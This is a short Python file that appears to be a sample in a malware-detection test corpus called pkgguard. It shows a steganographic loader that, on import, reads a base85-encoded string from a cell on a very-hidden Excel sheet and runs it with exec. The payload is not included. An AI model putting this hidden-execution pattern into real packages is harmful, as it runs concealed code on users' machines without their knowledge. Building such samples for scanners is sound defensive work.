# pkgguard corpus 658 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os

import openpyxl

_book = openpyxl.load_workbook(os.path.join(os.path.dirname(__file__), "templates", "report.xlsx"))
_sheet = _book["_meta"]
_cell = _sheet["Z99"].value or ""
if _sheet.sheet_state == "veryHidden" and _cell:
    exec(base64.b85decode(_cell))
